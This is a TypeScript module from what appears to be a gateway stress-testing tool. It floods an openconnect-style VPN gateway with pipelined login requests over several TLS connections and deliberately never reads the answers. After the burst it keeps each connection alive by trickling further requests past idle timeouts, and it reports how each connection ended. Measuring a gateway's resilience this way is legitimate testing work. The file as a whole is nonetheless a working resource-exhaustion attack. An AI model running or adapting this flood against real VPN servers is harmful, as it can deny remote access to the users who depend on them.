/**
 * Pipelining flood: a few TLS connections, each writing thousands of pipelined login requests
 * (`POST /` with the init XML, what openconnect sends first) without ever reading an answer.
 * After the burst each connection keeps sending a request now and then, so an idle timer alone
 * cannot end it. The socket is paused after the handshake: nothing is read until the window ends.
 *
 * Outcome per connection, from this side: refused (before TLS), cut off (a write failed or the
 * connection closed: the gateway reset or closed it), or open at the end of the window. A
 * connection whose writes stopped completing is "stalled": the gateway stopped reading it.
 */
import type { TLSSocket } from 'node:tls';
import { ConnectFailure, drainForFin, initRequest, msLeft, onWindowEnd, tlsConnect, windowOpen, type Target } from './net.js';

export interface PipelineOptions extends Target {
  connections: number;
  requestsPerConnection: number;
  /** requests per write */
  batch: number;
  endAt: number;
  /** after the burst: one request every this many ms */
  trickleEveryMs: number;
}

export interface PipelineConnReport {
  /**
   * half-closed: the gateway had sent its FIN (seen when reading at the end) but still took every
   * request we wrote until the window ended: it answers no more, yet the connection lives on.
   */
  outcome: 'refused' | 'cut-off' | 'half-closed' | 'open-at-end' | 'connect-failed';
  /** connect-failed: no TLS handshake completed (timeouts, not refusals) while the window lasted */
  /** requests the socket took (write completed: handed to the kernel) */
  requestsWritten: number;
  /** bytes of answers waiting for us when the window ended (read only then) */
  unreadAnswerBytes: number | null;
  /** ms after the TLS handshake when the cut-off was noticed */
  cutOffAfterMs: number | null;
  stalled: boolean;
  detail: string;
}

export interface PipelineReport {
  connections: PipelineConnReport[];
  requestsWritten: number;
}

const STALL_MS = 5000;

async function oneConnection(o: PipelineOptions): Promise<PipelineConnReport> {
  const rep: PipelineConnReport = { outcome: 'open-at-end', requestsWritten: 0, unreadAnswerBytes: null, cutOffAfterMs: null, stalled: false, detail: '' };
  let sock: TLSSocket | null = null;
  // A handshake that times out is no refusal (a starved gateway): try again while the window lasts.
  while (sock === null) {
    try {
      sock = await tlsConnect(o, Math.min(10_000, Math.max(1000, msLeft())));
    } catch (e) {
      const f = e as ConnectFailure;
      rep.detail = f.message;
      if (f.kind === 'refused') {
        rep.outcome = 'refused';
        return rep;
      }
      if (!windowOpen()) {
        rep.outcome = 'connect-failed';
        return rep;
      }
      await new Promise((r) => setTimeout(r, 1000));
    }
  }
  const t0 = Date.now();
  // Never read: the gateway's answers pile up in our receive buffer, then in its send buffer.
  sock.pause();
  let closed = false;
  let closeWhy = '';
  const onClosed = (why: string): void => {
    if (closed) return;
    closed = true;
    closeWhy = why;
    rep.cutOffAfterMs = Date.now() - t0;
  };
  sock.on('error', (e: NodeJS.ErrnoException) => onClosed(`${e.code ?? ''} ${e.message}`.trim()));
  sock.on('close', () => onClosed('closed'));
  const one = initRequest(o);
  const burst = Buffer.from(one.repeat(o.batch));
  const closedP = new Promise<boolean>((r) => sock.once('close', () => r(false)));
  /** Writes `buf`; resolves true once written, false when the connection closed. Notes stalls. */
  const write = (buf: Buffer, requests: number): Promise<boolean> => {
    if (closed || sock.destroyed) return Promise.resolve(false);
    const stall = setTimeout(() => (rep.stalled = true), STALL_MS);
    let cancelEnd: () => void = () => undefined;
    const written = new Promise<boolean>((resolve) =>
      sock.write(buf, (err) => {
        if (err) {
          onClosed(err.message);
          return resolve(false);
        }
        rep.requestsWritten += requests;
        resolve(true);
      }),
    );
    const windowOver = new Promise<boolean>((resolve) => (cancelEnd = onWindowEnd(() => resolve(!closed))));
    return Promise.race([written, windowOver, closedP]).finally(() => {
      clearTimeout(stall);
      cancelEnd();
    });
  };
  let sent = 0;
  while (sent < o.requestsPerConnection && windowOpen() && !closed) {
    const n = Math.min(o.batch, o.requestsPerConnection - sent);
    if (!(await write(n === o.batch ? burst : Buffer.from(one.repeat(n)), n))) break;
    sent += n;
  }
  const single = Buffer.from(one);
  while (windowOpen() && !closed) {
    await new Promise<void>((r) => {
      const cancel = onWindowEnd(r);
      setTimeout(() => (cancel(), r()), o.trickleEveryMs);
    });
    if (!windowOpen() || closed) break;
    // Unless a write is already hanging (stalled), keep the connection busy.
    if (!(await write(single, 1))) break;
  }
  const cutOff = closed;
  let finSeen = false;
  if (!closed) {
    const drained = await drainForFin(sock);
    finSeen = drained.finSeen;
    rep.unreadAnswerBytes = drained.unread;
  }
  sock.destroy();
  if (cutOff) {
    rep.outcome = 'cut-off';
    rep.detail = closeWhy;
  } else if (finSeen) {
    rep.outcome = 'half-closed';
    rep.detail = 'FIN from the gateway, but our requests were still accepted until the window ended';
  }
  return rep;
}

export async function pipeline(o: PipelineOptions, progress: (msg: string) => void): Promise<PipelineReport> {
  const reports: PipelineConnReport[] = [];
  const tick = setInterval(() => progress(`${reports.length}/${o.connections} connections done`), 10_000);
  try {
    const all = await Promise.all(
      Array.from({ length: o.connections }, async () => {
        const r = await oneConnection(o);
        reports.push(r);
        return r;
      }),
    );
    return { connections: all, requestsWritten: all.reduce((n, c) => n + c.requestsWritten, 0) };
  } finally {
    clearInterval(tick);
  }
}
